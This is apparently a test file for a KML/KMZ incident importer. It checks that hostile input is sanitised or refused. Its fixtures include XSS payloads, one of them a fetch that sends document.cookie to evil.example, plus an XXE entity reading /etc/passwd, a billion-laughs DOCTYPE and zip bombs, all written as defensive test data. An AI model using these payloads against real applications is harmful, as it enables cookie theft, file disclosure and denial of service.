import { parseXml, xmldomHtml } from '../../../test/helpers/xmldomParsers.ts';
import { zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ImportError } from '../imported.ts';
import { createHtmlToText } from './htmlToText.ts';
import { placemarkValues } from './kmlPlacemark.ts';
import { readKml, type KmlReadOptions } from './readKml.ts';

const OPTIONS: KmlReadOptions = { parseXml, htmlToText: createHtmlToText(xmldomHtml) };

const kml = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${body}</Document></kml>`;

const blob = (content: string | Uint8Array) =>
  new Blob([typeof content === 'string' ? content : new Uint8Array(content)]);

async function errorOf(promise: Promise<unknown>): Promise<ImportError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ImportError);
  return error as ImportError;
}

const HOSTILE = kml(`
<NetworkLink><name>remote</name><Link><href>http://evil.example/payload.kml</href></Link></NetworkLink>
<GroundOverlay><Icon><href>http://evil.example/overlay.png</href></Icon>
  <LatLonBox><north>35</north><south>34</south><east>70</east><west>69</west></LatLonBox></GroundOverlay>
<Style id="pin"><IconStyle><Icon><href>http://evil.example/icon.png</href></Icon></IconStyle></Style>
<Placemark>
  <name><![CDATA[Kabul <b>market</b><script>alert('name')</script>]]></name>
  <address><![CDATA[<img src="x" onerror="alert('address')">Shahr-e Naw]]></address>
  <Snippet><![CDATA[<iframe src="javascript:alert('snippet')">framed</iframe>Summary]]></Snippet>
  <description><![CDATA[<p>Two <a href="javascript:alert('desc')">killed</a>.</p><script>fetch('http://evil.example/'+document.cookie)</script><style>p{color:red}</style><img src="http://evil.example/track.gif" onerror="alert(1)"><iframe src="http://evil.example/"></iframe><object data="x">obj</object><p>Market closed.</p>]]></description>
  <TimeStamp><when>2024-03-05T10:20:00+04:30</when></TimeStamp>
  <styleUrl>#pin</styleUrl>
  <ExtendedData>
    <Data name="fatalities"><value><![CDATA[<b>3</b>]]></value></Data>
    <Data name="actor1"><value><![CDATA[<script>alert('actor')</script>Unknown gunmen]]></value></Data>
    <Data name="province"><value>Kabul &lt;script&gt;alert('escaped')&lt;/script&gt;</value></Data>
    <Data name="district"><value>District <script>alert('element')</script>10</value></Data>
  </ExtendedData>
  <Point><coordinates>69.1723,34.5281,1800</coordinates></Point>
</Placemark>`);

const MARKUP_OR_SCRIPT = /<|>|script|alert|javascript|onerror|evil\.example|iframe|color:red|obj/i;

describe('a hostile KML', () => {
  const fetchSpy = vi.fn(() => {
    throw new Error('Daftar must not fetch anything');
  });
  beforeEach(() => vi.stubGlobal('fetch', fetchSpy));
  afterEach(() => vi.unstubAllGlobals());

  it('keeps only the text: no markup, no script text, in every field', async () => {
    const plan = await readKml(blob(HOSTILE), OPTIONS);
    expect(plan.problems).toEqual([]);
    expect(plan.incidents).toHaveLength(1);
    const { fields } = plan.incidents[0]!;
    expect(fields.title).toBe('Kabul market');
    expect(fields.notes).toBe('Two killed.\n\nMarket closed.');
    expect(fields.placeName).toBe('Shahr-e Naw');
    expect(fields.fatalities).toBe(3);
    expect(fields.actors).toEqual([{ name: 'Unknown gunmen', role: 'actor1', actorId: null }]);
    expect(fields.province).toBe('Kabul');
    expect(fields.district).toBe('District 10');
    expect(fields).toMatchObject({
      dateStart: '2024-03-05',
      time: '10:20',
      latitude: 34.5281,
      longitude: 69.1723,
    });
    const texts = JSON.stringify(fields);
    expect(texts).not.toMatch(/script|alert|javascript|onerror|evil\.example|iframe/i);
  });

  it('every value read from the placemark, the Snippet included, is markup-free', () => {
    const doc = parseXml(HOSTILE);
    const placemark = doc.getElementsByTagName('Placemark')[0]!;
    const { values, sources } = placemarkValues(placemark, OPTIONS.htmlToText);
    expect(values['Snippet']).toBe('Summary');
    for (const [name, value] of Object.entries(values)) {
      expect({ name, value }).toEqual({ name, value: expect.not.stringMatching(MARKUP_OR_SCRIPT) });
    }
    expect(sources).toBe(4);
  });

  it('follows no link, and says how many it did not follow', async () => {
    const plan = await readKml(blob(HOSTILE), OPTIONS);
    expect(fetchSpy).not.toHaveBeenCalled();
    // 3 hrefs (network link, overlay, icon) + 4 src attributes (address img, snippet iframe,
    // description img and iframe).
    expect(plan.remarks).toContainEqual({
      key: 'interchange.kml.linksNotFollowed',
      params: { count: 7 },
    });
    // The network link and the overlay are not placemarks: not imported.
    expect(plan.total).toBe(1);
  });
});

describe('refused files', () => {
  it('a DOCTYPE with entities (billion laughs) is refused before parsing', async () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&lol2;</name></Placemark></kml>`;
    const parse = vi.fn(parseXml);
    const error = await errorOf(readKml(blob(laughs), { ...OPTIONS, parseXml: parse }));
    expect(error.key).toBe('interchange.kml.doctypeRefused');
    expect(parse).not.toHaveBeenCalled();
  });

  it('an external entity (XXE) is refused', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><kml><Placemark><name>&xxe;</name></Placemark></kml>`;
    expect((await errorOf(readKml(blob(xxe), OPTIONS))).key).toBe('interchange.kml.doctypeRefused');
  });

  it('"<!DOCTYPE html>" quoted inside a CDATA description is not a DOCTYPE', async () => {
    const quoted = kml(
      `<Placemark><name>Quoted</name><description><![CDATA[<!DOCTYPE html><p>Body</p>]]></description><TimeStamp><when>2024-01-01</when></TimeStamp></Placemark>`,
    );
    const plan = await readKml(blob(quoted), OPTIONS);
    expect(plan.incidents[0]!.fields.notes).toBe('Body');
  });

  it('malformed XML is refused with the parser’s message', async () => {
    const error = await errorOf(readKml(blob('<kml><Placemark></kml>'), OPTIONS));
    expect(error.key).toBe('interchange.kml.malformed');
    expect(error.params['detail']).toMatch(/Placemark/);
  });

  it('a browser-style <parsererror> document is refused the same way', async () => {
    const browserLike = (text: string) => {
      void text;
      return parseXml(
        '<html><parsererror><h3>This page contains the following errors:</h3><div>error on line 1 at column 7: Extra content at the end of the document</div><h3>Below is a rendering of the page up to the first error.</h3></parsererror></html>',
      );
    };
    const error = await errorOf(readKml(blob('<kml/>junk'), { ...OPTIONS, parseXml: browserLike }));
    expect(error.key).toBe('interchange.kml.malformed');
    expect(error.params['detail']).toBe(
      'error on line 1 at column 7: Extra content at the end of the document',
    );
  });

  it('XML that is not KML says what it is', async () => {
    const error = await errorOf(readKml(blob('<gpx><trk/></gpx>'), OPTIONS));
    expect(error).toMatchObject({ key: 'interchange.kml.notKml', params: { root: 'gpx' } });
  });
});

const PLACE = kml(`<Placemark><name>Herat</name><TimeStamp><when>2023-10-07</when></TimeStamp>
<Point><coordinates>62.2,34.35</coordinates></Point></Placemark>`);

describe('KMZ', () => {
  it('reads doc.kml and ignores the other entries', async () => {
    const zip = zipSync({
      'files/photo.jpg': new Uint8Array([0xff, 0xd8, 0xff]),
      'doc.kml': new TextEncoder().encode(PLACE),
      'other.kml': new TextEncoder().encode(kml('')),
    });
    const plan = await readKml(blob(zip), OPTIONS);
    expect(plan.format).toBe('kmz');
    expect(plan.incidents.map((i) => i.fields.title)).toEqual(['Herat']);
  });

  it('without doc.kml, reads the first .kml entry', async () => {
    const zip = zipSync({ 'places/herat.KML': new TextEncoder().encode(PLACE) });
    expect((await readKml(blob(zip), OPTIONS)).incidents).toHaveLength(1);
  });

  it('a KMZ without KML, and a damaged one, are refused', async () => {
    const empty = zipSync({ 'readme.txt': new TextEncoder().encode('hi') });
    expect((await errorOf(readKml(blob(empty), OPTIONS))).key).toBe('interchange.kml.noKmlInKmz');
    const damaged = zipSync({ 'doc.kml': new TextEncoder().encode(PLACE) }).slice(0, 40);
    expect((await errorOf(readKml(blob(damaged), OPTIONS))).key).toBe('interchange.kml.badKmz');
  });

  it('a zip bomb is refused by its declared size, before inflating', async () => {
    // 4 MiB of spaces deflate to a few kilobytes; the limit here is 1 MiB.
    const bomb = zipSync({ 'doc.kml': new Uint8Array(4 * 1024 * 1024).fill(32) }, { level: 9 });
    expect(bomb.length).toBeLessThan(64 * 1024);
    const error = await errorOf(
      readKml(blob(bomb), { ...OPTIONS, limits: { maxKmlBytes: 1024 * 1024 } }),
    );
    expect(error).toMatchObject({
      key: 'interchange.kml.kmzTooLarge',
      params: { sizeMiB: 4, limitMiB: 1 },
    });
  });

  it('a bomb that understates its size is cut at the stated size, then fails to parse', async () => {
    const content = PLACE.replace('</kml>', `${' '.repeat(1024 * 1024)}</kml>`);
    const zip = zipSync({ 'doc.kml': new TextEncoder().encode(content) }, { level: 9 });
    const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
    for (let i = 0; i + 4 <= zip.length; i++) {
      // Central directory and local headers: uncompressed size → 200 bytes.
      if (view.getUint32(i, true) === 0x02014b50) view.setUint32(i + 24, 200, true);
      if (view.getUint32(i, true) === 0x04034b50) view.setUint32(i + 22, 200, true);
    }
    expect((await errorOf(readKml(blob(zip), OPTIONS))).key).toBe('interchange.kml.malformed');
  });
});

describe('geometries and times', () => {
  const placemarks = kml(`
<Placemark><name>Road</name><TimeSpan><begin>2024-02</begin></TimeSpan>
  <LineString><coordinates>69,34 69,35 69,38</coordinates></LineString></Placemark>
<Placemark><name>Area</name><TimeSpan><begin>2024-01-02</begin><end>2024-01-09</end></TimeSpan>
  <Polygon><outerBoundaryIs><LinearRing><coordinates>68,33 70,33 70,35 68,35 68,33</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>
<Placemark><name>Both</name><TimeStamp><when>2021</when></TimeStamp>
  <MultiGeometry><Point><coordinates>1,1</coordinates></Point>
  <Polygon><outerBoundaryIs><LinearRing><coordinates>60,30 62,30 62,32 60,32 60,30</coordinates></LinearRing></outerBoundaryIs></Polygon></MultiGeometry></Placemark>
<Placemark><name>Nowhere</name><TimeStamp><when>2024-05-01</when></TimeStamp></Placemark>
<Placemark><name>Undated</name><Point><coordinates>69,34</coordinates></Point></Placemark>
<Placemark><name>Off the map</name><TimeStamp><when>2024-05-01</when></TimeStamp><Point><coordinates>190,34</coordinates></Point></Placemark>`);

  it('places lines and polygons at a representative point, with remarks', async () => {
    const plan = await readKml(blob(placemarks), OPTIONS);
    expect(plan.total).toBe(6);
    const byTitle = Object.fromEntries(plan.incidents.map((i) => [i.fields.title, i]));
    expect(byTitle['Road']!.fields).toMatchObject({ longitude: 69, latitude: 36 });
    expect(byTitle['Road']!.remarks).toContainEqual({
      key: 'interchange.geo.placed.lineMiddle',
      params: { geometry: 'LineString' },
    });
    expect(byTitle['Area']!.fields).toMatchObject({ longitude: 69, latitude: 34 });
    expect(byTitle['Both']!.fields).toMatchObject({ longitude: 61, latitude: 31 });
    expect(byTitle['Both']!.remarks[0]).toMatchObject({
      params: { geometry: 'GeometryCollection' },
    });
    expect(byTitle['Nowhere']!.fields.latitude).toBeNull();
    expect(byTitle['Nowhere']!.remarks).toContainEqual({ key: 'interchange.geo.noGeometry' });
  });

  it('reads TimeStamp and TimeSpan, month and year stamps as ranges of precision 3', async () => {
    const plan = await readKml(blob(placemarks), OPTIONS);
    const byTitle = Object.fromEntries(plan.incidents.map((i) => [i.fields.title, i.fields]));
    expect(byTitle['Road']).toMatchObject({
      dateStart: '2024-02-01',
      dateEnd: '2024-02-29',
      timePrecision: 3,
    });
    expect(byTitle['Area']).toMatchObject({ dateStart: '2024-01-02', dateEnd: '2024-01-09' });
    expect(byTitle['Both']).toMatchObject({ dateStart: '2021-01-01', dateEnd: '2021-12-31' });
  });

  it('an undated placemark and bad coordinates are refused by index', async () => {
    const plan = await readKml(blob(placemarks), OPTIONS);
    expect(plan.problems.map((p) => [p.at, p.key])).toEqual([
      [{ feature: 4 }, 'interchange.row.dateMissing'],
      [{ feature: 5 }, 'interchange.geo.invalidCoordinates'],
    ]);
  });

  it('undated placemarks take the given date when asked, with a whole-file remark', async () => {
    const plan = await readKml(blob(placemarks), { ...OPTIONS, undatedAs: '2024-06-01' });
    const undated = plan.incidents.find((i) => i.fields.title === 'Undated')!;
    expect(undated.fields.dateStart).toBe('2024-06-01');
    expect(plan.remarks).toContainEqual({
      key: 'interchange.kml.undated',
      params: { count: 1, date: '2024-06-01' },
    });
  });
});
